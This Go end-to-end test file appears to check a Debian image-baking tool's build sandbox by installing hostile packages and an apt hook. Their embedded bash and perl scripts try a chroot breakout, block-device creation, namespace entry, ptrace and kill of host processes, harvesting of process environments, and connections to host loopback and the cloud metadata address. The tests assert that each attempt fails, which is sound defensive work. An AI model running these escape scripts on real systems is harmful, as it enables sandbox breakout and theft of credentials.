package e2e

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/aminator-go/aminator/internal/testutil"
)

// escapeScript is what a hostile package runs from its postinst: one
// attack per class of issue 10, each recording its outcome under
// /opt/escape/result in the image (never failing the install, so the bake
// finishes and the test can look at both the image and the host).
const escapeScript = `#!/bin/bash
T=%[1]s; HOSTPID=%[2]d; PORT=%[3]d
R=/opt/escape/result; mkdir -p $R
# Host files through /proc/1/root and every /proc/*/root.
for p in /proc/1/root /proc/[0-9]*/root; do
  touch "$p/tmp/aminator-escape-$T" 2>/dev/null && echo "$p" >> $R/proc_root
done
# The classic chroot breakout (perl is in every Debian minbase).
perl -e 'mkdir "/tmp/brk"; chroot "/tmp/brk" or die "chroot: $!\n"; chdir ".." for 1..64; chroot "." or die "chroot2: $!\n";
  open F, ">/tmp/aminator-escape-chroot-'$T'" or die "open: $!\n"; print F "x"; close F; print "ESCAPED\n"' > $R/chroot 2>&1
# Block devices: a disk and another bake's loop device.
{ mknod /tmp/esc-sda b 8 0 && echo MADE; mknod /tmp/esc-loop b 7 0 && echo MADE; ls /dev; } > $R/mknod 2>&1
# mount
{ mount -t tmpfs none /mnt && echo MOUNTED && umount /mnt; } > $R/mount 2>&1
# New namespaces (and so a way around the others).
{ unshare --mount true && echo UNSHARED; unshare --net true && echo UNSHARED;
  nsenter --target 1 --mount --net true && echo ENTERED; } > $R/unshare 2>&1
# Signals and ptrace of processes outside: the host's sleep, the bake (PID 1 today).
{ kill -9 $HOSTPID && echo KILLED;
  perl -e 'my $r = syscall(101, 0x4206, 1, 0, 0); print $r == 0 ? "SEIZED\n" : "ptrace: $!\n"'; } > $R/kill 2>&1
cat /proc/[0-9]*/comm > $R/comms 2>/dev/null
# /proc/kcore
{ head -c 16 /proc/kcore > /dev/null && echo READ; } > $R/kcore 2>&1
# The outer PID 1's (and every visible process's) environment.
for p in /proc/[0-9]*/environ; do cat $p 2>/dev/null | tr '\0' '\n'; done > $R/environ
# hostname and a global sysctl, directly and through /proc/1/root.
{ hostname aminator-escape-$T && echo HOSTNAME;
  echo 17 > /proc/sys/kernel/printk_ratelimit && echo SYSCTL;
  echo 17 > /proc/1/root/proc/sys/kernel/printk_ratelimit && echo SYSCTL; } > $R/sysctl 2>&1
# The host's loopback and the instance metadata address.
{ timeout 5 bash -c "echo $T > /dev/tcp/127.0.0.1/$PORT" && echo CONNECTED; } > $R/loopback 2>&1
{ timeout 5 bash -c ": > /dev/tcp/169.254.169.254/80" && echo CONNECTED; echo "exit $?"; } > $R/metadata 2>&1
exit 0
`

// TestSandboxEscapes bakes a package whose postinst tries every way out of
// the image issue 10 lists; each class is a subtest that checks the host
// is untouched and the attempt failed inside.
func TestSandboxEscapes(t *testing.T) {
	testutil.CheckNoLeaks(t, workDir())
	b := base(t)
	token := fmt.Sprintf("%d", os.Getpid())
	hostPolicy := hashFile(t, "/usr/sbin/policy-rc.d")
	hostName, _ := os.Hostname()
	ratelimit := readFile(t, "/proc/sys/kernel/printk_ratelimit")
	defer os.WriteFile("/proc/sys/kernel/printk_ratelimit", []byte(ratelimit), 0o644)
	sleeper := exec.Command("sleep", "600")
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	defer sleeper.Process.Kill()
	ln, accepted := hostListener(t)
	hostFiles := []string{"/tmp/aminator-escape-" + token, "/tmp/aminator-escape-chroot-" + token}
	for _, f := range hostFiles {
		defer os.Remove(f)
	}
	deb := testutil.BuildDeb(t, t.TempDir(), testutil.Deb{
		Name: "aminator-escape", Version: "1.0-1",
		Files:    map[string]string{"/opt/escape/attack.sh": fmt.Sprintf(escapeScript, token, sleeper.Process.Pid, ln.Addr().(*net.TCPAddr).Port)},
		Exec:     []string{"/opt/escape/attack.sh"},
		Postinst: "/opt/escape/attack.sh",
	})
	id := mustOK(t, aminateEnv(t, []string{"AMINATOR_ESCAPE_SECRET=s3cr3t-" + token}, "-B", b, "-s", "esc"+token, deb))
	res := map[string]string{}
	inspect(t, id, 0, func(root string) {
		ents, _ := os.ReadDir(filepath.Join(root, "opt/escape/result"))
		for _, e := range ents {
			res[e.Name()] = readFile(t, filepath.Join(root, "opt/escape/result", e.Name()))
		}
	})
	if len(res) == 0 {
		t.Fatal("the attack script left no results")
	}
	for _, k := range []string{"chroot", "mknod", "mount", "unshare", "kill", "kcore", "sysctl", "loopback", "metadata"} {
		t.Logf("%s: %s", k, strings.ReplaceAll(strings.TrimSpace(res[k]), "\n", " | "))
	}
	checkEscapes(t, res, escapeHost{files: hostFiles, token: token, hostName: hostName, ratelimit: ratelimit,
		sleeper: sleeper, accepted: accepted, policy: hostPolicy})
}

type escapeHost struct {
	files                      []string
	token, hostName, ratelimit string
	policy                     string
	sleeper                    *exec.Cmd
	accepted                   *atomic.Int32
}

func checkEscapes(t *testing.T, res map[string]string, h escapeHost) {
	refuse := func(t *testing.T, class string, markers ...string) {
		t.Helper()
		for _, m := range markers {
			if strings.Contains(res[class], m) {
				t.Errorf("%s: the attack worked (%s):\n%s", class, m, res[class])
			}
		}
	}
	t.Run("ProcRoot", func(t *testing.T) {
		if _, err := os.Stat(h.files[0]); err == nil {
			t.Errorf("a postinst wrote the HOST's %s through %s", h.files[0], strings.TrimSpace(res["proc_root"]))
		}
		if h := hashFile(t, "/usr/sbin/policy-rc.d"); !strings.HasPrefix(h, "21a8dca0d6a52cba") && h != "" {
			t.Errorf("the host's policy-rc.d changed: %s", h)
		}
	})
	t.Run("ChrootBreakout", func(t *testing.T) {
		if _, err := os.Stat(h.files[1]); err == nil {
			t.Errorf("the chroot breakout wrote the HOST's %s", h.files[1])
		}
		refuse(t, "chroot", "ESCAPED")
	})
	t.Run("Mknod", func(t *testing.T) {
		refuse(t, "mknod", "MADE", "loop-control", "loop0")
	})
	t.Run("Mount", func(t *testing.T) { refuse(t, "mount", "MOUNTED") })
	t.Run("Unshare", func(t *testing.T) { refuse(t, "unshare", "UNSHARED", "ENTERED") })
	t.Run("KillPtrace", func(t *testing.T) {
		refuse(t, "kill", "KILLED", "SEIZED")
		if err := h.sleeper.Process.Signal(syscall.Signal(0)); err != nil {
			t.Errorf("the host's sleep %d is gone: %v", h.sleeper.Process.Pid, err)
		}
		if strings.Contains(res["comms"], "aminate") {
			t.Errorf("the bake's own process is visible inside:\n%s", res["comms"])
		}
	})
	t.Run("Kcore", func(t *testing.T) { refuse(t, "kcore", "READ") })
	t.Run("OuterEnviron", func(t *testing.T) { refuse(t, "environ", "s3cr3t-"+h.token, "AMINATOR_ESCAPE_SECRET") })
	t.Run("HostnameSysctl", func(t *testing.T) {
		refuse(t, "sysctl", "SYSCTL")
		if n, _ := os.Hostname(); n != h.hostName {
			t.Errorf("the host's hostname changed: %q -> %q", h.hostName, n)
		}
		if v := readFile(t, "/proc/sys/kernel/printk_ratelimit"); v != h.ratelimit {
			t.Errorf("a host sysctl changed: printk_ratelimit %q -> %q", h.ratelimit, v)
		}
	})
	t.Run("Loopback", func(t *testing.T) {
		refuse(t, "loopback", "CONNECTED")
		if n := h.accepted.Load(); n != 0 {
			t.Errorf("package code reached the host's loopback (%d connections)", n)
		}
	})
	t.Run("Metadata", func(t *testing.T) {
		refuse(t, "metadata", "CONNECTED")
		// With no route at all the attempt fails at once; a timeout would
		// mean the address is routed and only happens to be silent here.
		if !strings.Contains(res["metadata"], "unreachable") {
			t.Errorf("169.254.169.254 is routed from package code:\n%s", res["metadata"])
		}
	})
}

// downloadHook is a hostile base image's apt configuration: apt-get update
// runs it in the download phase, the one command with a way out (the
// egress proxy). It tries the host's loopback and the metadata address
// directly and through the proxy, and records what happened in the image
// (under /var/lib: a bake empties /var/tmp before the snapshot).
const downloadHook = `APT::Update::Pre-Invoke { "bash /etc/aminator-evil.sh || true"; };
`

const downloadAttack = `#!/bin/bash
R=/var/lib/aminator-evil; mkdir -p $R
{ timeout 5 bash -c "echo hi > /dev/tcp/127.0.0.1/%[1]d" && echo CONNECTED; } > $R/loopback 2>&1
{ timeout 5 bash -c ": > /dev/tcp/169.254.169.254/80" && echo CONNECTED; } > $R/metadata 2>&1
for target in 169.254.169.254 127.0.0.1:%[1]d; do
  exec 3<>/dev/tcp/127.0.0.1/3128 || continue
  printf 'GET http://%%s/ HTTP/1.0\r\n\r\n' $target >&3
  timeout 5 head -1 <&3 >> $R/proxy
  exec 3>&-
done
{ printf 'CONNECT 169.254.169.254:80 HTTP/1.0\r\n\r\n' >&4; timeout 5 head -1 <&4; } 4<>/dev/tcp/127.0.0.1/3128 >> $R/proxy 2>&1
`

// A hostile base image whose apt runs code during apt-get update: the
// download phase reaches the image's package sources only, through the
// egress proxy, never the host's loopback or the metadata address.
func TestSandboxDownloadPhase(t *testing.T) {
	testutil.CheckNoLeaks(t, workDir())
	b := base(t)
	ln, accepted := hostListener(t)
	evil := testutil.BuildDeb(t, t.TempDir(), testutil.Deb{
		Name: "aminator-evil-base", Version: "1.0-1",
		Files: map[string]string{
			"/etc/apt/apt.conf.d/99aminator-evil": downloadHook,
			"/etc/aminator-evil.sh":               fmt.Sprintf(downloadAttack, ln.Addr().(*net.TCPAddr).Port),
		},
	})
	evilBase := mustOK(t, aminate(t, "-B", b, "-s", "evilbase", evil))
	id := mustOK(t, aminate(t, "-B", evilBase, "-s", "onevil", "hello"))
	res := map[string]string{}
	inspect(t, id, 0, func(root string) {
		for _, k := range []string{"loopback", "metadata", "proxy"} {
			res[k] = readFile(t, filepath.Join(root, "var/lib/aminator-evil", k))
		}
	})
	t.Logf("download phase: %v", res)
	if accepted.Load() != 0 || strings.Contains(res["loopback"], "CONNECTED") {
		t.Errorf("the download phase reached the host's loopback: %q", res["loopback"])
	}
	if strings.Contains(res["metadata"], "CONNECTED") || !strings.Contains(res["metadata"], "unreachable") {
		t.Errorf("the download phase routes to 169.254.169.254: %q", res["metadata"])
	}
	if n := strings.Count(res["proxy"], " 403 "); n != 3 {
		t.Errorf("the egress proxy let a request to the metadata address or loopback through (%d of 3 refused):\n%s", n, res["proxy"])
	}
}
